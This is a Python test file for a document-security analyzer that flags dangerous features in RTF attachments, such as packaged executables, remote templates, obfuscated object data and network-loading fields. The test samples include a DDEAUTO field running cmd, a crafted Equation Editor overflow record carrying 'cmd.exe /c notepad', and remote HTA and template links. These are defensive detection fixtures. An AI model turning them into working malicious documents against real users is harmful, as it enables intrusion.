"""The Rich Text unit: objects, exploits of their readers, remote templates."""

from __future__ import annotations

import struct
import time

import pytest

from analyzers.attachments import rtf
from analyzers.attachments.rtf import UNIT
from analyzers.model.content import Link
from analyzers.model.observation import Observation, Severity
from analyzers.model.unit import Unreadable
from tests.analyzers.attachments.observed import children, facts, findings, observe, survives
from tests.samples.office import embedded, packaged, rich_object, rich_text


def seen(body: str) -> list[Observation]:
    return observe(UNIT, rich_text(body), "sample.rtf", "rtf")


def test_a_plain_document_has_no_findings() -> None:
    found = seen("{\\info{\\author Billing}}\\pard Dear all\\par")
    assert not findings(found)
    assert facts(found) == {"Author": "Billing"}


def test_an_embedded_object_becomes_a_child() -> None:
    inner = b"inner " * 9
    assert children(seen(rich_object(b"Excel.Sheet.8", inner))) == {"object 1": inner}


def test_a_packed_program_is_a_grave_finding() -> None:
    found = seen(rich_object(b"Package", packaged("a.exe", b"content")[4:]))
    assert children(found) == {"a.exe": b"content"}
    assert findings(found)["office.object.package"].severity is Severity.HIGH


def test_an_equation_object_is_critical() -> None:
    found = findings(seen(rich_object(b"Equation.3", bytes(80))))
    assert found["rtf.object.equation"].severity is Severity.CRITICAL


def test_a_linked_object_that_loads_itself_is_found() -> None:
    moniker = "https://cdn.test/a.hta".encode("utf-16-le")
    found = findings(seen(rich_object(b"OLE2Link", bytes(40) + moniker, "\\objupdate")))
    assert found["rtf.object.link"].evidence == "hxxps://cdn[.]test/a.hta"
    assert "rtf.object.update" in found


def test_object_data_in_disguise_is_named() -> None:
    found = findings(seen("{\\object{\\*\\objdata " + "ab" * 80 + "}}"))
    assert "rtf.object.unclear" in found


@pytest.mark.parametrize(
    "target", ["https://cdn.test/a.dotm", "\\\\\\\\files.test\\\\a.dotm", "\\'68ttp://cdn.test/a"]
)
def test_a_remote_template_is_critical(target: str) -> None:
    found = findings(seen("{\\*\\template " + target + "}"))
    assert found["rtf.template.remote"].severity is Severity.CRITICAL


def test_a_local_template_is_no_finding() -> None:
    assert not findings(seen("{\\*\\template Normal.dotm}"))


def test_a_dde_field_is_found() -> None:
    assert "office.dde" in findings(seen('{\\field{\\*\\fldinst DDEAUTO cmd "/k dir"}}'))


def test_a_request_to_switch_protection_off_is_found() -> None:
    assert "office.lure.enable" in findings(seen("Press Enable {\\b Content} to view"))


def test_a_malformed_header_is_found() -> None:
    assert "rtf.header.malformed" in findings(observe(UNIT, b"{\\rtxyz hello}", "a.rtf", "rtf"))


def test_size_and_objects_beyond_the_limits_are_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rtf, "PARSED", 4_000)
    monkeypatch.setattr(rtf, "OBJECTS", 2)
    found = findings(seen(rich_object(b"A", b"x") * 3 + " " * 5_000))
    assert {"limit.rtf.size", "limit.rtf.objects"} <= set(found)


def test_what_has_no_header_is_unreadable() -> None:
    with pytest.raises(Unreadable):
        observe(UNIT, b"hello", "a.rtf", "rtf")


def test_damaged_documents_never_crash_the_unit() -> None:
    body = rich_object(b"Package", packaged("a.exe", b"content")[4:]) + "{\\*\\template http://a}"
    assert survives(UNIT, rich_text(body), "rtf", 150)


PACKED = rich_object(b"Package", packaged("a.exe", b"content")[4:])
DIGITS = PACKED.partition("objdata ")[2].rstrip("}")


@pytest.mark.parametrize(
    ("digits", "trick"),
    [
        (DIGITS[:30] + "{\\*\\unknown 1234}" + DIGITS[30:], "groups"),
        (DIGITS[:30] + "{\\fonttbl 1234}" + DIGITS[30:], "groups"),
        (DIGITS[:30] + "\\keepn1 " + DIGITS[30:], "control words"),
        (DIGITS[:31] + "\\'7a" + DIGITS[30:], "escaped characters"),
        (DIGITS[:20] + "\\bin5 " + bytes.fromhex(DIGITS[20:30]).decode("latin-1")
         + DIGITS[30:], "binary data"),
        (DIGITS[:30] + "zz-" + DIGITS[30:], "no digits"),
        (DIGITS[:30] + "\\bin-4 " + DIGITS[30:], "binary data"),
        (DIGITS + "f", "an odd number of digits"),
    ],
)  # fmt: skip
def test_hidden_object_data_is_read_as_word_reads_it(digits: str, trick: str) -> None:
    found = seen("{\\object{\\*\\objdata " + digits + "}}")
    assert children(found) == {"a.exe": b"content"}
    assert trick in findings(found)["rtf.object.hidden"].evidence


def test_line_ends_and_gaps_hide_nothing() -> None:
    spaced = "\r\n".join(DIGITS[i : i + 64] for i in range(0, len(DIGITS), 64))
    found = seen("{\\object{\\*\\objdata " + spaced + "\r\n}}")
    assert children(found) == {"a.exe": b"content"}
    assert "rtf.object.hidden" not in findings(found)


def test_an_object_inside_an_object_and_one_cut_off_are_both_read() -> None:
    inner = "{\\*\\objdata " + DIGITS + "}"
    assert "a.exe" in children(seen("{\\object{\\*\\objdata 00" + inner + "}}"))
    assert "a.exe" in children(observe(UNIT, rich_text(PACKED)[:-3], "a.rtf", "rtf"))


def test_escaped_backslashes_make_no_object() -> None:
    assert not children(seen("Write \\\\objdata 0105 to \\\\objupdate it"))


def test_an_exploit_of_the_equation_editor_is_told_by_its_marks() -> None:
    header = struct.pack("<HIHI4I", 28, 0x20000, 0xC1C6, 200, 0, 0, 0, 0)
    font = b"\x08\x5a\x5a" + b"cmd.exe /c notepad & AAAA".ljust(44, b"A") + b"\x12\x0c\x43\x00"
    native = header[:28] + bytes((3, 1, 1, 3, 10)) + b"\x0a\x01" + font
    found = seen(rich_object(b"EqUaTiOn.3", native))
    assert facts(found)["Equation"] == "MTEF 3, Equation Editor 3.10 on Windows"
    told = findings(found)["office.equation.overflow"]
    assert told.severity is Severity.CRITICAL
    assert "WinExec" in told.evidence
    assert "cmd.exe" in told.evidence
    harmless = findings(seen(rich_object(b"Equation.3", native[:35] + bytes(60))))
    assert "office.equation.overflow" not in harmless


def test_a_disguised_class_keeps_its_document() -> None:
    inner = embedded("Equation Native", bytes(60))
    raw = "0000" + inner.hex()
    assert children(seen("{\\object{\\*\\objdata " + raw + "}}")) == {"object 1": inner}


@pytest.mark.parametrize(
    ("field", "severity"),
    [
        ('INCLUDEPICTURE "http://t.test/a.png" \\\\d', Severity.LOW),
        ('INCLUDEPICTURE "\\\\\\\\8.8.8.8\\\\a\\\\b.png"', Severity.HIGH),
        ('INCLUDETEXT "http://t.test/a.docx"', Severity.HIGH),
        ('LINK htmlfile "http://t.test/a.hta"', Severity.HIGH),
        ('INCLUDEPICTURE "C:\\\\a.png"', None),
    ],
)
def test_fields_that_load_from_the_network(field: str, severity: Severity | None) -> None:
    found = findings(seen("{\\field{\\*\\fldinst {\\rtlch " + field + "}}{\\fldrslt x}}"))
    told = found.get("rtf.field.remote")
    assert (told.severity if told else None) == severity


def test_links_of_fields_are_recorded() -> None:
    found = seen('{\\field{\\*\\fldinst HYPERLINK "https://a.test/b"}{\\fldrslt Click}}')
    assert [link.url for link in found if isinstance(link, Link)] == ["https://a.test/b"]


def test_a_linked_object_with_an_address_for_topic_is_found() -> None:
    topic = b"http://a.test/x.doc\0"
    raw = struct.pack("<III", 0x501, 1, 5) + b"Word\0" + struct.pack("<I", len(topic)) + topic
    found = seen("{\\object{\\*\\objdata " + (raw + bytes(16)).hex() + "}}")
    assert findings(found)["rtf.object.link"].evidence == "hxxp://a[.]test/x.doc"


def test_hostile_documents_stay_cheap() -> None:
    started = time.process_time()
    for body in ("{" * 300_000, "{\\*\\objdata " * 50_000, "\\" * 600_001 + "objdata",
                 "{\\*\\objdata" + "{\\a 1}" * 100_000, "\\fldinst {" * 50_000):  # fmt: skip
        seen(body)
    assert "limit.rtf.fields" in findings(seen("\\fldinst {" * 50_000))
    assert time.process_time() - started < 8
